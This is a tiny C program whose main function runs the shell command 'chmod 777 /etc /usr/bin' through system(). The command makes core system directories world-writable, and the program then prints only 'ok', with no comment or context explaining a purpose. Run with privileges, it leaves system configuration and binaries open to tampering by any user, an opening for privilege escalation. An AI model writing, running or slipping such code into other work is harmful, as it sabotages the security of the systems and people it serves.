#include <stdio.h>
#include <stdlib.h>
int main(void) {
    if (system("chmod 777 /etc /usr/bin"))
        return 3;
    return puts("ok") < 0;
}
